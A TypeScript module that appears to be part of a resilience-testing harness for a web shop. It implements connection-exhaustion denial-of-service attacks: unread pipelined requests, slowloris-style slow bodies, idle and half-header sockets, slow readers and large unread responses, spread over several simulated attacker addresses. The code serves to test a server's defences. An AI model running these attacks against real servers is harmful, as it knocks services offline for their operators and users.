/** Class 1: connections that occupy places and never free them. */
import type { Socket } from 'node:net';
import { type Attack, attackerAddress, keepOn, pause, Tally } from '../attack.ts';
import { open } from '../caller.ts';

const request = (path: string, headers = '') => `GET ${path} HTTP/1.1\r\nHost: shop\r\n${headers}\r\n`;

/** As many as the shop takes on one connection without closing it: one in progress and two waiting. */
const MOST_PIPELINED = 3;

/** Resolves when the connection or the attack has ended. */
function over(socket: Socket, signal: AbortSignal): Promise<void> {
  return new Promise((resolve) => {
    if (socket.destroyed || signal.aborted) return resolve();
    socket.once('close', () => resolve());
    signal.addEventListener('abort', () => resolve(), { once: true });
  });
}

async function pipelineUnread(url: string, address: string, signal: AbortSignal, tally: Tally): Promise<void> {
  const socket = await open(url, address);
  socket.pause();
  socket.write(request('/').repeat(10) + request('/api/coupon/list').repeat(230));
  tally.add('opened');
  await over(socket, signal);
  if (!signal.aborted) tally.add('cut by the shop');
  socket.destroy();
  // Without reading, Node notices a cut connection late; so pause, to open new ones at a rate that any client could keep up.
  await pause(200);
}

export const pipelinedUnread: Attack = {
  id: '1a',
  what: 'one connection: 240 requests at once, nothing read',
  async run(shop, signal) {
    const tally = new Tally();
    await keepOn(signal, 1, () => pipelineUnread(shop.url, attackerAddress(0), signal, tally));
    return { got: tally.toString(), broken: [] };
  },
};

export const manyPipelinedUnread: Attack = {
  id: '1a+',
  what: '60 such connections from 3 addresses',
  async run(shop, signal) {
    const tally = new Tally();
    await keepOn(signal, 60, (loop) => pipelineUnread(shop.url, attackerAddress(loop % 3), signal, tally));
    return { got: tally.toString(), broken: [] };
  },
};

const SLOW_BODY =
  'POST /api/contact HTTP/1.1\r\nHost: shop\r\nContent-Type: application/json\r\nContent-Length: 2000\r\n\r\n{"name":"';

async function sendSlowly(url: string, address: string, signal: AbortSignal, tally: Tally): Promise<void> {
  const socket = await open(url, address);
  socket.once('data', (data: Buffer) => tally.add(`answered ${data.toString('latin1', 9, 12)}`));
  socket.write(SLOW_BODY);
  tally.add('begun');
  const ended = over(socket, signal);
  while (!signal.aborted && !socket.destroyed) {
    await Promise.race([pause(2_000), ended]);
    if (!socket.destroyed) socket.write('a');
  }
  socket.destroy();
  await pause(500);
}

export const slowBodies: Attack = {
  id: '1b',
  what: '200 bodies from each of 5 addresses, a byte in two seconds',
  async run(shop, signal) {
    const tally = new Tally();
    await keepOn(signal, 1_000, (loop) => sendSlowly(shop.url, attackerAddress(loop % 5), signal, tally));
    return { got: tally.toString(), broken: [] };
  },
};

async function sitIdle(url: string, address: string, first: string, signal: AbortSignal, tally: Tally): Promise<void> {
  const socket = await open(url, address);
  tally.add(socket.destroyed ? 'refused' : 'opened');
  if (first) socket.write(first);
  socket.resume();
  await over(socket, signal);
  if (!signal.aborted) tally.add('cut by the shop');
  socket.destroy();
  await pause(500);
}

export const idleSockets: Attack = {
  id: '1c',
  what: '1,500 connections of one address that say nothing, or half a header',
  async run(shop, signal) {
    const tally = new Tally();
    const beginnings = ['', 'GET / HTTP/1.1\r\nHost: shop\r\nX-Half: ', request('/healthz')];
    await keepOn(signal, 1_500, (loop) =>
      sitIdle(shop.url, attackerAddress(0), beginnings[loop % 3] as string, signal, tally),
    );
    return { got: tally.toString(), broken: [] };
  },
};

/** Reads a little at a time, so that the connection is never completely idle. */
async function sip(url: string, address: string, path: string, signal: AbortSignal, tally: Tally): Promise<void> {
  const socket = await open(url, address);
  let taken = 0;
  socket.on('data', (data: Buffer) => {
    taken += data.length;
    socket.pause();
  });
  socket.write(request(path).repeat(MOST_PIPELINED));
  const ended = over(socket, signal);
  while (!signal.aborted && !socket.destroyed) {
    await Promise.race([pause(1_000), ended]);
    socket.resume();
  }
  tally.add(signal.aborted ? 'held to the end' : 'cut by the shop');
  tally.add('KB taken', Math.round(taken / 1024));
  socket.destroy();
  await pause(200);
}

export const slowReaders: Attack = {
  id: '1d',
  what: '300 connections of 3 addresses that read big answers a sip a second',
  async run(shop, signal) {
    const tally = new Tally();
    const paths = ['/api/product/list1', '/?page=2', '/api/openapi.json', '/'];
    await keepOn(signal, 300, (loop) =>
      sip(shop.url, attackerAddress(loop % 3), paths[loop % 4] as string, signal, tally),
    );
    return { got: tally.toString(), broken: [] };
  },
};

const BIG = ['/', '/ta/', '/api/openapi.json', '/api/product/list1'];

async function leaveUnread(
  url: string,
  address: string,
  loop: number,
  signal: AbortSignal,
  tally: Tally,
): Promise<void> {
  const socket = await open(url, address);
  socket.pause();
  socket.write(request(BIG[loop % BIG.length] as string).repeat(MOST_PIPELINED));
  tally.add('opened');
  await Promise.race([over(socket, signal), pause(3_000)]);
  if (socket.destroyed) tally.add('cut by the shop');
  socket.destroy();
}

/** The shop's kernel buffers megabytes per connection before the shop can notice that nobody reads. */
export const bigUnread: Attack = {
  id: '1e',
  what: '300 connections of 3 addresses that ask for big answers as they are, read nothing and come again',
  async run(shop, signal) {
    const tally = new Tally();
    await keepOn(signal, 300, (loop) => leaveUnread(shop.url, attackerAddress(loop % 3), loop, signal, tally));
    return { got: tally.toString(), broken: [] };
  },
};
